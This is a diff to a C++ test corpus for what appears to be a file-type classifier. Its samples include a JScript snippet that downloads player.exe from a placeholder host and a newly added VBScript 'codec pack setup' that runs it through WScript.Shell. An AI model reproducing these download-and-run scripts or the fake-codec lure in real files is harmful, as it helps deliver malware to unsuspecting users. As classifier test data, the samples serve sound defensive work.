@@ -269,6 +269,11 @@ const std::string kUrlFile =
 const std::string kJScript =
     "var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar http = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
     "http.open(\"GET\", \"http://codec.example.invalid/player.exe\", false);\r\nhttp.send();\r\n";
+// The call past a line full of the letters a call may start with (and before
+// 128 bytes: a cut head of plain words would be text).
+const std::string kVbScript =
+    "' Codec pack setup: gets the player and starts it, as the readme says.\r\n"
+    "Dim s\r\nSet s = CREATEOBJECT(\"WScript.Shell\")\r\ns.Run \"player.exe\"\r\n";
 
 }  // namespace
 
@@ -365,6 +370,7 @@ std::vector<CleanFile> Corpus() {
         {"asx playlist", kAsx, kAsx.size(), F::Playlist, {"stream.asx", "stream.wvx"}, {"stream.wmv", "stream.mp3"}, false},
         Built("internet shortcut", kUrlFile, F::InternetShortcut, {"Film site.url"}),
         Built("jscript", kJScript, F::WindowsScript, {"setup.js"}),
+        Built("vbscript", kVbScript, F::WindowsScript, {"setup.vbs"}),
     };
 }
 
